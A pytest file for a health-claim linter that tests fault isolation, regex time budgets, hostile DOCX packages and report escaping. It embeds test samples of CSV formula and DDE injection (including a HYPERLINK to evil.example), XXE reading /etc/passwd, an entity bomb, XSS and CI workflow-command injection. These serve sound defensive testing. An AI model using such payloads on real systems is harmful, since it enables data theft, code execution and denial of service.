"""Nothing lost, nothing hangs (issue 15): long pages, one file's failure costing only
that file (in process and in worker processes), untrusted regex patterns, hostile DOCX
packages, hostile text in every report format, and no silent failure modes."""

from __future__ import annotations

import csv
import io
import json
import multiprocessing
import os
import signal
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import pytest
from click.testing import CliRunner

from claimcheck import api
from claimcheck.api import check_paths
from claimcheck.checks import regex as regex_kind
from claimcheck.cli import main
from claimcheck.config import ModelSettings, Settings
from claimcheck.findings import Finding
from claimcheck.linter import Linter
from claimcheck.report import FORMATTERS
from claimcheck.severity import Severity
from claimcheck.sources.docx import read_docx
from tests.docx_build import docx_from_text

CLAIM = "Our stem cell therapy cures arthritis."
PARAGRAPH = (
    "Regenerative medicine clinic {n} offers **consultations** on weekdays. Our staff explain the options "
    "for knee pain, including [physical therapy](https://example.org/pt), and answer questions about costs.\n\n"
)
RULES_ONLY = Settings(model=ModelSettings(enabled=False))


def long_page(size: int) -> tuple[str, int, int]:
    """A Markdown page of about `size` characters with CLAIM near its end; (text, line, column) of the claim."""
    parts, total, n = [], 0, 0
    while total < size:
        part = PARAGRAPH.format(n=n)
        parts.append(part)
        total += len(part)
        n += 1
    lead = "*Closing words.* "
    text = "# Long page\n\n" + "".join(parts) + lead + CLAIM + "\n"
    line = text.count("\n")  # the claim's line is the last one
    return text, line, len(lead) + 1


# ---------------------------------------------------------------- 1. long texts


@pytest.mark.parametrize("megabytes", [1.2, 4.9])
def test_long_pages_are_checked_with_findings_at_exact_places(tmp_path, linter: Linter, megabytes: float):
    text, line, column = long_page(int(megabytes * 1_000_000))
    assert len(text) > 1_000_000  # over spaCy's default max_length
    page = tmp_path / "long.md"
    page.write_text(text, encoding="utf-8")
    assert page.stat().st_size < Settings().max_file_size
    report = check_paths([str(page)], linter=linter, settings=RULES_ONLY)
    assert report.notices == () and report.files_checked == 1
    cure = [finding for finding in report.findings if finding.rule == "efficacy/cure-claim"]
    assert [(finding.line, finding.column, finding.text) for finding in cure] == [(line, column, CLAIM)]
    assert cure[0].end_line == line and cure[0].end_column == column + len(CLAIM)
    for finding in report.findings:
        assert text[finding.offset : finding.end_offset] == finding.text
    assert linter.take_stopped() == []  # the built-in patterns stay within their budget


# ---------------------------------------------------------------- 2. fault isolation


def _inject(monkeypatch, *, kill_once: Path | None = None) -> None:
    """Files named boom* raise inside the reader; kill* kill the process that reads them
    (always, or only the first time for the path in `kill_once`).  Worker processes are
    forked, so they inherit the patch."""
    real = api.parse_source

    def parse(text: str, path: str, fmt: str):  # type: ignore[no-untyped-def]
        name = Path(path).name
        if name.startswith("boom"):
            raise RuntimeError("injected failure")
        if name.startswith("kill") and (kill_once is None or not kill_once.exists()):
            if kill_once is not None:
                kill_once.write_text("killed once", encoding="utf-8")
            os.kill(os.getpid(), signal.SIGKILL)
        return real(text, path, fmt)

    monkeypatch.setattr(api, "parse_source", parse)


def test_one_failing_file_costs_only_itself(tmp_path, monkeypatch, linter: Linter):
    site = tmp_path / "site"
    site.mkdir()
    (site / "a.md").write_text(CLAIM + "\n", encoding="utf-8")
    (site / "boom.md").write_text(CLAIM + "\n", encoding="utf-8")
    (site / "c.md").write_text("Stem cells are FDA approved for knee pain.\n", encoding="utf-8")
    _inject(monkeypatch)
    report = check_paths([str(site)], linter=linter, settings=RULES_ONLY)
    assert report.files_checked == 2
    assert {Path(finding.path).name for finding in report.findings} == {"a.md", "c.md"}
    [notice] = report.notices
    assert notice.internal and notice.error
    assert notice.message.startswith(f"internal error while checking {site / 'boom.md'}: RuntimeError: injected failure")


@pytest.mark.parametrize("output_format", sorted(FORMATTERS))
def test_cli_reports_the_other_files_in_every_format_and_exits_3(tmp_path, monkeypatch, output_format: str):
    site = tmp_path / "site"
    site.mkdir()
    (site / "claim.md").write_text(CLAIM + "\n", encoding="utf-8")
    (site / "boom.md").write_text("Nothing to see.\n", encoding="utf-8")
    _inject(monkeypatch)
    result = CliRunner().invoke(main, ["check", str(site), "--no-model", "--format", output_format])
    assert result.exit_code == 3, result.output
    assert f"internal error while checking {site / 'boom.md'}" in result.stderr
    assert "efficacy/cure-claim" in result.stdout
    assert "Traceback" not in result.output


def test_done_when_folder_with_a_long_page_a_claim_and_an_injected_error(tmp_path, monkeypatch):
    site = tmp_path / "site"
    site.mkdir()
    text, line, column = long_page(1_050_000)
    (site / "long.md").write_text(text, encoding="utf-8")
    (site / "claim.md").write_text("# Offer\n\n" + CLAIM + "\n", encoding="utf-8")
    (site / "boom.md").write_text(CLAIM + "\n", encoding="utf-8")
    _inject(monkeypatch)
    result = CliRunner().invoke(main, ["check", str(site), "--no-model", "--format", "json"])
    assert result.exit_code == 3, result.output
    findings = json.loads(result.stdout)["findings"]
    cures = {(Path(f["path"]).name, f["line"], f["column"]) for f in findings if f["rule"] == "efficacy/cure-claim"}
    assert cures == {("claim.md", 3, 1), ("long.md", line, column)}
    assert result.stderr.count("internal error while checking") == 1
    assert "boom.md" in result.stderr


@pytest.mark.skipif(multiprocessing.get_start_method() != "fork", reason="injection reaches workers by fork")
def test_workers_that_raise_or_die_cost_only_their_file(tmp_path, monkeypatch):
    site = tmp_path / "site"
    site.mkdir()
    for number in range(8):
        (site / f"page{number}.md").write_text(f"Page {number}. {CLAIM}\n", encoding="utf-8")
    (site / "boom.md").write_text(CLAIM + "\n", encoding="utf-8")
    (site / "kill.md").write_text(CLAIM + "\n", encoding="utf-8")
    (site / "kill-once.md").write_text(CLAIM + "\n", encoding="utf-8")
    marker = tmp_path / "killed-once"
    real = api.parse_source

    def parse(text: str, path: str, fmt: str):  # type: ignore[no-untyped-def]
        name = Path(path).name
        if name == "boom.md":
            raise RuntimeError("injected failure")
        if name == "kill.md" or (name == "kill-once.md" and not marker.exists()):
            if name == "kill-once.md":
                marker.write_text("x", encoding="utf-8")
            os.kill(os.getpid(), signal.SIGKILL)
        return real(text, path, fmt)

    monkeypatch.setattr(api, "parse_source", parse)
    report = check_paths([str(site)], settings=RULES_ONLY, jobs=2)
    assert marker.exists()  # kill-once.md did kill a worker, and its retry succeeded
    checked = {Path(path).name for path in report.checked}
    assert checked == {f"page{number}.md" for number in range(8)} | {"kill-once.md"}
    flagged = {Path(finding.path).name for finding in report.findings if finding.rule == "efficacy/cure-claim"}
    assert flagged == checked
    by_file = {Path(notice.path).name: notice for notice in report.notices}
    assert set(by_file) == {"boom.md", "kill.md"}
    assert all(notice.internal for notice in report.notices)
    assert "RuntimeError: injected failure" in by_file["boom.md"].message
    assert f"killed by signal {signal.SIGKILL}" in by_file["kill.md"].message
    # The same findings, in the same order, as checking the surviving files in one process.
    monkeypatch.setattr(api, "parse_source", real)
    serial = check_paths([str(site / name) for name in sorted(checked)], settings=RULES_ONLY, jobs=1)
    assert sorted(serial.findings) == sorted(report.findings)


def test_a_bug_in_the_docx_reader_is_an_internal_error_not_an_unreadable_file(tmp_path, monkeypatch, linter: Linter):
    from claimcheck.sources import docx as docx_reader

    def broken(*_args, **_kwargs):  # type: ignore[no-untyped-def]
        raise AttributeError("injected bug")

    monkeypatch.setattr(docx_reader, "_paragraph_kind", broken)
    path = tmp_path / "page.docx"
    path.write_bytes(docx_from_text(CLAIM))
    with pytest.raises(AttributeError):
        read_docx(path.read_bytes(), str(path))
    [notice] = check_paths([str(path)], linter=linter, settings=RULES_ONLY).notices
    assert notice.internal and "AttributeError: injected bug" in notice.message
    assert "not a readable .docx" not in notice.message


# ---------------------------------------------------------------- 3. untrusted patterns

CATASTROPHIC = ["(a|aa)+$", "(a+)+$", "(a|a)*b", "(x+x+)+y", r"^(\w+\s?)*$", "(.*a){25}", "((a*)*)*c"]


def _house_pack(root: Path, pattern: str) -> Path:
    pack = root / "house"
    pack.mkdir(exist_ok=True)
    rule = {
        "rules": [
            {
                "id": "house/slow",
                "kind": "regex",
                "severity": "warning",
                "category": "efficacy",
                "message": "slow",
                "rationale": "r",
                "authority": "a",
                "options": {"pattern": pattern},
            }
        ]
    }
    (pack / "slow.yml").write_text(json.dumps(rule), encoding="utf-8")  # JSON is YAML
    config = root / ".claimcheck.yaml"
    config.write_text("packs: [stemcell, ./house]\nmodel: false\n", encoding="utf-8")
    return config


@pytest.mark.parametrize("pattern", CATASTROPHIC)
def test_catastrophic_patterns_cannot_hang_a_run(tmp_path, monkeypatch, pattern: str):
    monkeypatch.setattr(regex_kind, "TIME_BUDGET", 0.2)
    monkeypatch.setattr(regex_kind, "BUDGET_PER_MB", 0.0)
    config = _house_pack(tmp_path, pattern)
    site = tmp_path / "site"
    site.mkdir()
    hostile = "a" * 41 + "! " + "x" * 41 + " " + "word " * 30 + "!\n"
    for number in range(3):
        (site / f"page{number}.md").write_text(f"{hostile}\n{CLAIM}\n", encoding="utf-8")
    result = CliRunner().invoke(main, ["check", str(site), "--config", str(config), "--format", "json"])
    # The run finishes and reports the other rules' findings for every file.
    findings = json.loads(result.stdout)["findings"]
    assert {Path(f["path"]).name for f in findings if f["rule"] == "efficacy/cure-claim"} == {"page0.md", "page1.md", "page2.md"}
    stopped = [line for line in result.stderr.splitlines() if "'house/slow'" in line]
    if stopped:  # the regex engine could not cut the pattern short: stopped, once, naming the rule
        assert len(stopped) == 1 and "time budget" in stopped[0] and "slow.yml" in stopped[0]
        assert result.exit_code == 2
    else:  # the engine's own guards made it linear on this text
        assert result.exit_code == 1


def test_a_stopped_rule_is_reported_once_and_skipped_afterwards(tmp_path, monkeypatch):
    monkeypatch.setattr(regex_kind, "TIME_BUDGET", 0.2)
    monkeypatch.setattr(regex_kind, "BUDGET_PER_MB", 0.0)
    config = _house_pack(tmp_path, "(a|aa)+$")
    site = tmp_path / "site"
    site.mkdir()
    for number in range(3):
        (site / f"page{number}.md").write_text("a" * 60 + "!\n", encoding="utf-8")
    result = CliRunner().invoke(main, ["check", str(site), "--config", str(config), "-q"])
    assert result.exit_code == 2
    assert result.stderr.count("rule 'house/slow'") == 1
    assert "skipped for the rest of the run" in result.stderr


def test_config_rule_options_patterns_get_the_same_budget(tmp_path, monkeypatch):
    monkeypatch.setattr(regex_kind, "TIME_BUDGET", 0.2)
    monkeypatch.setattr(regex_kind, "BUDGET_PER_MB", 0.0)
    config = tmp_path / ".claimcheck.yaml"
    config.write_text(
        "model: false\nrule_options:\n  regulatory/fda-misrepresentation:\n    pattern: '(a|aa)+$'\n", encoding="utf-8"
    )
    page = tmp_path / "page.md"
    page.write_text("a" * 60 + "!\n", encoding="utf-8")
    result = CliRunner().invoke(main, ["check", str(page), "--config", str(config), "-q"])
    assert result.exit_code == 2
    assert "rule 'regulatory/fda-misrepresentation'" in result.stderr and "time budget" in result.stderr


def test_an_invalid_pattern_names_the_rule(tmp_path):
    config = _house_pack(tmp_path, "(unclosed")
    result = CliRunner().invoke(main, ["check", str(tmp_path), "--config", str(config)])
    assert result.exit_code == 2
    assert "rule 'house/slow'" in result.stderr and "not a valid regular expression" in result.stderr


# ---------------------------------------------------------------- 4. DOCX


def _repack(data: bytes, name: str, change) -> bytes:  # type: ignore[no-untyped-def]
    source = zipfile.ZipFile(io.BytesIO(data))
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w") as target:
        for item in source.infolist():
            body = change(source.read(item.filename)) if item.filename == name else source.read(item.filename)
            if body is not None:
                target.writestr(item, body)
    return output.getvalue()


def _with_doctype(declaration: bytes, replace_claim_with: bytes):  # type: ignore[no-untyped-def]
    def change(body: bytes) -> bytes:
        head, rest = body.split(b"?>", 1)
        return head + b"?>" + declaration + rest.replace(CLAIM.encode(), replace_claim_with, 1)

    return change


BOMB = b"".join(
    [b'<!DOCTYPE w:document [<!ENTITY a "aaaaaaaaaa">']
    + [
        f'<!ENTITY {name} "{("&" + previous + ";") * 10}">'.encode()
        for previous, name in zip("abcdefgh", "bcdefghi", strict=True)
    ]
    + [b"]>"]
)
DOCTYPES = {
    "entities": (b'<!DOCTYPE w:document [<!ENTITY e1 "Stem cells cure MS.">]>', "declares entities"),
    "external": (b'<!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "external entity or DTD"),
    "bomb": (BOMB, "declares entities"),
    "dtd": (b"<!DOCTYPE w:document>", "has a DTD"),
}


@pytest.mark.parametrize("case", sorted(DOCTYPES))
def test_docx_declarations_are_refused_with_a_notice_and_the_rest_is_checked(tmp_path, linter: Linter, case: str):
    declaration, said = DOCTYPES[case]
    reference = {"entities": b"&e1; ", "external": b"&x; ", "bomb": b"&i; "}.get(case, b"")
    data = _repack(
        docx_from_text(CLAIM + "\n\nSecond paragraph."),
        "word/document.xml",
        _with_doctype(declaration, reference + CLAIM.encode()),
    )
    path = tmp_path / f"{case}.docx"
    path.write_bytes(data)
    report = check_paths([str(path)], linter=linter, settings=RULES_ONLY)
    [notice] = report.notices
    assert notice.error and not notice.internal
    assert str(path) in notice.message and "word/document.xml" in notice.message and said in notice.message
    cure = [finding for finding in report.findings if finding.rule == "efficacy/cure-claim"]
    # The safe text after the reference is still checked (the entity stays as written).
    assert [finding.text for finding in cure] == [(reference + CLAIM.encode()).decode()]
    source = read_docx(data, str(path))
    assert "root:" not in source.original  # nothing was fetched
    assert len(source.original) < 1000  # nothing was expanded


def test_docx_with_parts_missing_or_mistyped(tmp_path, linter: Linter):
    base = docx_from_text(CLAIM)
    cases = {
        "no-styles.docx": _repack(base, "word/styles.xml", lambda body: None),
        "bad-styles.docx": _repack(base, "word/styles.xml", lambda body: b"<unclosed"),
        "mistyped.docx": _repack(
            base, "[Content_Types].xml", lambda body: body.replace(b"wordprocessingml.document.main", b"spreadsheetml.sheet.main")
        ),
    }
    for name, data in cases.items():
        (tmp_path / name).write_bytes(data)
    (tmp_path / "no-document.docx").write_bytes(_repack(base, "word/document.xml", lambda body: None))
    report = check_paths([str(tmp_path)], linter=linter, settings=RULES_ONLY)
    assert not any(notice.internal for notice in report.notices)
    messages = {Path(notice.path).name: notice.message for notice in report.notices}
    for name in ("no-styles.docx", "bad-styles.docx", "mistyped.docx"):
        assert "damaged .docx package" in messages[name] and "word/document.xml alone" in messages[name]
    assert "word/document.xml is missing" in messages["no-document.docx"]
    flagged = {Path(f.path).name for f in report.findings if f.rule == "efficacy/cure-claim"}
    assert flagged == {"no-styles.docx", "bad-styles.docx", "mistyped.docx"}


def test_docx_footnotes_part_that_is_not_xml_is_named_and_the_body_checked(tmp_path):
    from tests.docx_build import build_docx

    data = _repack(build_docx([("paragraph", CLAIM + "{fn:A note.}")]), "word/footnotes.xml", lambda body: b"<w:footnotes")
    source = read_docx(data, "notes.docx")
    assert CLAIM in source.original
    assert any("word/footnotes.xml is not readable XML" in note for note in source.notes)


# ---------------------------------------------------------------- 5. untrusted text in reports

FORMULA = '=HYPERLINK("http://evil.example/?leak","Click")'
HOSTILE_TEXTS = [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\tTAB", "\rCR"]


def _finding(text: str, message: str = "m", path: str = "site/page.md") -> Finding:
    return Finding(
        path, 1, 1, 1, 1 + len(text), "efficacy/cure-claim", Severity.ERROR, message, text, offset=0, end_offset=len(text)
    )


@pytest.mark.parametrize("text", HOSTILE_TEXTS)
def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(text: str):
    rows = list(csv.reader(io.StringIO(FORMATTERS["csv"]([_finding(text, message=text, path=text)]), newline="")))
    row = dict(zip(rows[0], rows[1], strict=True))
    for column in ("text", "message", "path"):
        assert row[column] == "'" + text
    assert row["line"] == "1"  # numbers stay numbers
    raw = list(csv.reader(io.StringIO(FORMATTERS["csv"]([_finding(text)], raw_csv=True), newline="")))
    assert dict(zip(raw[0], raw[1], strict=True))["text"] == text


def test_claims_csv_is_neutralised_end_to_end(tmp_path):
    page = tmp_path / "page.md"
    page.write_text(f"{FORMULA} Our stem cell therapy cures arthritis.\n", encoding="utf-8")
    runner = CliRunner()
    result = runner.invoke(main, ["claims", str(page), "--format", "csv", "--no-model"])
    assert result.exit_code == 0, result.output
    texts = [row["text"] for row in csv.DictReader(io.StringIO(result.stdout))]
    assert texts and all(not text.startswith(("=", "+", "-", "@")) for text in texts)
    assert any(text.startswith("'=HYPERLINK") for text in texts)
    raw = runner.invoke(main, ["claims", str(page), "--format", "csv", "--no-model", "--raw-csv"])
    assert any(row["text"].startswith("=HYPERLINK") for row in csv.DictReader(io.StringIO(raw.stdout)))


def test_check_csv_is_neutralised_end_to_end(tmp_path):
    page = tmp_path / "=page.md"
    page.write_text(CLAIM + "\n", encoding="utf-8")
    result = CliRunner().invoke(main, ["check", str(page), "--format", "csv", "--no-model"])
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert rows and all(not row["path"].startswith("=") for row in rows)


HOSTILE = "<script>alert(1)</script> \x1b[31m\x00\x07 ]]> &amp; \n::error file=x::owned\n::set-env name=A::B " + FORMULA


def test_other_formats_escape_hostile_text():
    finding = _finding(HOSTILE, message=HOSTILE, path="site/<b>page</b>.md")
    context = {"sources": {"site/<b>page</b>.md": HOSTILE}, "notices": [{"path": "x", "message": HOSTILE, "error": True}]}
    html = FORMATTERS["html"]([finding], **context)
    assert "<script>alert(1)</script>" not in html and "&lt;script&gt;" in html
    sarif = json.loads(FORMATTERS["sarif"]([finding], **context))
    assert sarif["runs"][0]["results"][0]["message"]["text"].startswith("<script>")  # JSON keeps text, escaped by JSON
    junit = FORMATTERS["junit"]([finding], **context)
    ElementTree.fromstring(junit)  # well-formed XML: control characters dropped, markup escaped
    assert "<script>" not in junit
    github = FORMATTERS["github"]([finding], **context)
    for line in github.splitlines():
        assert line.startswith("::error ")  # one annotation; no injected workflow command line
    assert "%0A::error file=x::owned" in github
    data = json.loads(FORMATTERS["json"]([finding], **context))
    assert data["findings"][0]["text"] == HOSTILE


# ---------------------------------------------------------------- 6. baseline


def test_baseline_says_when_a_file_vanished_before_fingerprinting(tmp_path, monkeypatch):
    page = tmp_path / "page.md"
    page.write_text(CLAIM + "\n", encoding="utf-8")
    real = api.check_paths

    def check_then_delete(*args, **kwargs):  # type: ignore[no-untyped-def]
        report = real(*args, **kwargs)
        page.unlink()
        return report

    monkeypatch.setattr(api, "check_paths", check_then_delete)
    result = CliRunner().invoke(main, ["check", str(page), "--no-model", "--write-baseline", str(tmp_path / "b.json")])
    assert result.exit_code == 0
    assert f"{page}: changed or vanished since it was checked" in result.stderr


def test_baseline_says_when_a_file_changed_before_fingerprinting(tmp_path, monkeypatch):
    page = tmp_path / "page.md"
    page.write_text(CLAIM + "\n", encoding="utf-8")
    real = api.check_paths

    def check_then_edit(*args, **kwargs):  # type: ignore[no-untyped-def]
        report = real(*args, **kwargs)
        page.write_text("Rewritten.\n\n" + CLAIM + "\n", encoding="utf-8")
        return report

    monkeypatch.setattr(api, "check_paths", check_then_edit)
    result = CliRunner().invoke(main, ["check", str(page), "--no-model", "--format", "sarif"])
    assert "changed or vanished since it was checked" in result.stderr
    unchanged = tmp_path / "same.md"
    unchanged.write_text(CLAIM + "\n", encoding="utf-8")
    monkeypatch.setattr(api, "check_paths", real)
    quiet = CliRunner().invoke(main, ["check", str(unchanged), "--no-model", "--format", "sarif"])
    assert "changed or vanished" not in quiet.stderr
